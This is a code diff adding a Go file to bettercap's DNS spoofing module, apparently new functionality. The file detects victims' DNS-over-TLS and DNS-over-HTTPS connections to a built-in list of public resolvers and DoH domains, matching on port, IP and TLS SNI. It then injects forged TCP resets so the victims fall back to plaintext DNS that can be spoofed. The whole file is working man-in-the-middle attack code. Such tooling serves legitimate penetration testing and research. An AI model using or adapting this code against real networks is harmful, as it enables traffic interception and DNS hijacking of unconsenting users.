@@ -0,0 +1,124 @@
+package dns_spoof
+
+import (
+	"fmt"
+	"net"
+	"strings"
+
+	"github.com/bettercap/bettercap/packets"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+
+	"github.com/evilsocket/islazy/tui"
+)
+
+const (
+	dotPort = 853
+	dohPort = 443
+
+	defaultResolvers  = "1.1.1.1,1.0.0.1,8.8.8.8,8.8.4.4,9.9.9.9,149.112.112.112,208.67.222.222,208.67.220.220,94.140.14.14,94.140.15.15,2606:4700:4700::1111,2606:4700:4700::1001,2001:4860:4860::8888,2001:4860:4860::8844,2620:fe::fe,2620:fe::9"
+	defaultDoHDomains = "dns.google,cloudflare-dns.com,*.cloudflare-dns.com,dns.quad9.net,*.quad9.net,doh.opendns.com,dns.adguard.com,*.adguard-dns.com,*.nextdns.io,doh.cleanbrowsing.org,dns.mullvad.net"
+)
+
+func (mod *DNSSpoofer) parseEncrypted(resolvers []string, domains []string) error {
+	mod.resolvers = make([]net.IP, 0)
+	for _, resolver := range resolvers {
+		if ip := net.ParseIP(resolver); ip == nil {
+			return fmt.Errorf("'%s' is not a valid resolver address", resolver)
+		} else {
+			mod.addResolver(ip)
+		}
+	}
+
+	mod.dohDomains = make([]HostEntry, 0)
+	for _, domain := range domains {
+		mod.dohDomains = append(mod.dohDomains, NewHostEntry(strings.ToLower(domain), nil))
+	}
+
+	return nil
+}
+
+func (mod *DNSSpoofer) isResolver(ip net.IP) bool {
+	for _, resolver := range mod.resolvers {
+		if resolver.Equal(ip) {
+			return true
+		}
+	}
+	return false
+}
+
+// addResolver adds ip to the known resolvers unless it's there already, the
+// address is copied since it might belong to a packet buffer.
+func (mod *DNSSpoofer) addResolver(ip net.IP) {
+	if !mod.isResolver(ip) {
+		mod.resolvers = append(mod.resolvers, append(net.IP{}, ip...))
+	}
+}
+
+func (mod *DNSSpoofer) isDoHDomain(name string) bool {
+	name = strings.ToLower(name)
+	for _, entry := range mod.dohDomains {
+		if entry.Matches(name) {
+			return true
+		}
+	}
+	return false
+}
+
+// blockEncrypted resets the DNS-over-TLS and DNS-over-HTTPS connections of
+// the targets, forcing them to fall back to plaintext DNS.
+func (mod *DNSSpoofer) blockEncrypted(pkt gopacket.Packet, eth *layers.Ethernet, tcp *layers.TCP) {
+	var srcIP, dstIP net.IP
+	if ip4, ok := pkt.Layer(layers.LayerTypeIPv4).(*layers.IPv4); ok {
+		srcIP, dstIP = ip4.SrcIP, ip4.DstIP
+	} else if ip6, ok := pkt.Layer(layers.LayerTypeIPv6).(*layers.IPv6); ok {
+		srcIP, dstIP = ip6.SrcIP, ip6.DstIP
+	} else {
+		return
+	}
+
+	what := ""
+	if tcp.DstPort == dotPort {
+		what = "DNS-over-TLS"
+	} else if tcp.DstPort == dohPort {
+		if mod.isResolver(dstIP) {
+			what = "DNS-over-HTTPS"
+		} else if sni, found := packets.TLSClientHelloSNI(tcp.Payload); found && mod.isDoHDomain(sni) {
+			// block the next connections to this resolver right away
+			mod.addResolver(dstIP)
+			what = fmt.Sprintf("DNS-over-HTTPS (%s)", sni)
+		}
+	}
+
+	if what == "" {
+		return
+	}
+
+	// reset the client side, the connection with the resolver will be
+	// torn down by the client itself once it receives the server replies
+	ack := tcp.Seq + uint32(len(tcp.Payload))
+	if tcp.SYN {
+		ack++
+	}
+
+	err, raw := packets.NewTCPReset(dstIP, eth.DstMAC, srcIP, eth.SrcMAC, int(tcp.DstPort), int(tcp.SrcPort), tcp.Ack, ack)
+	if err != nil {
+		mod.Error("error creating TCP reset: %v", err)
+		return
+	} else if err = mod.Session.Queue.Send(raw); err != nil {
+		mod.Error("error sending TCP reset: %v", err)
+		return
+	}
+
+	who := srcIP.String()
+	if t := mod.Session.Lan.GetByIp(who); t != nil {
+		who = t.String()
+	}
+
+	if tcp.SYN || len(tcp.Payload) > 0 {
+		mod.Info("blocked %s connection from %s to %s.", tui.Red(what), tui.Bold(who), dstIP)
+	} else {
+		mod.Debug("reset %s connection from %s to %s", what, who, dstIP)
+	}
+}